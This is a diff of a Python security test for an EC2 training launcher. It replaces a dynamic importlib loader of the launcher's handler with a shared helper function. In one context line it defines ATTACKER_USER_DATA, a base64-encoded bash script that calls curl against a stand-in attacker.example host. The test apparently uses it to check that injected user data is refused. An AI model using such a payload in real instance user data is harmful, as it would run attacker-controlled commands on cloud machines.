@@ -13,9 +13,7 @@ the person's invocation of the launcher."""
 from __future__ import annotations
 
 import base64
-import importlib.util
 import os
-import sys
 from pathlib import Path
 from typing import Any
 
@@ -25,7 +23,7 @@ from botocore.exceptions import ClientError
 
 from proving_ground.iam_policy import Request, is_allowed, logical_id, resolve
 from proving_ground.rehearsal.aws_calls import Gate, Principal, install
-from stacks.components.training_launcher import HANDLER
+from proving_ground.rehearsal.training_steps import launcher_handler
 from tests.stacks.security.conftest import ACCOUNT, REGION
 from tests.stacks.security.exports import template_exports
 
@@ -34,15 +32,6 @@ ATTACKER_USER_DATA = base64.b64encode(b"#!/bin/bash\ncurl -s https://attacker.ex
 LAUNCHER = Principal("launcher", "AKIALAUNCHER0000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/l"})
 PERSON = Principal("alice", "AKIAALICE0000000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/alice"})
 LOOKUP = Principal("lookup", "AKIALOOKUP000000", None)  # the test's own look at what was launched: not checked
-
-
-def _handler() -> Any:
-    spec = importlib.util.spec_from_file_location("run_launcher_handler", HANDLER / "handler.py")
-    assert spec and spec.loader
-    module = importlib.util.module_from_spec(spec)
-    sys.modules[spec.name] = module  # dataclasses look their module up while the class is made
-    spec.loader.exec_module(module)
-    return module
 
 
 def _client(principal: Principal, service: str = "ec2") -> Any:
@@ -122,7 +111,7 @@ def _attribute(instance_id: str, name: str) -> Any:
 
 
 def test_the_launcher_starts_a_run_with_the_templates_user_data_shutdown_and_the_runs_tags(launch: Any) -> None:
-    handler = _handler()
+    handler = launcher_handler()
     event = {"run_name": "sentiment-7", "nodes": 1, "instance_type": "p4d.24xlarge",
              "arguments": {"epochs": 2, "learning_rate": 3e-5}}  # fmt: skip
     # The call overrides nothing of the template but the count and the run's tags (EC2 takes the user data and the
@@ -227,7 +216,7 @@ def test_the_launcher_refuses_what_is_not_a_run_it_starts_in_one_sentence(
     templates: dict[str, dict[str, dict]], event: Any
 ) -> None:
     """With the dev function's own settings (one node of p4d.24xlarge); a refused request calls nothing."""
-    handler = _handler()
+    handler = launcher_handler()
     variables = _function(templates)["Environment"]["Variables"]
     settings = handler.Settings.from_environment({**variables, "LAUNCH_TEMPLATE_ID": "lt-0training",
                                                   "LAUNCH_TEMPLATE_VERSION": "1"})  # fmt: skip
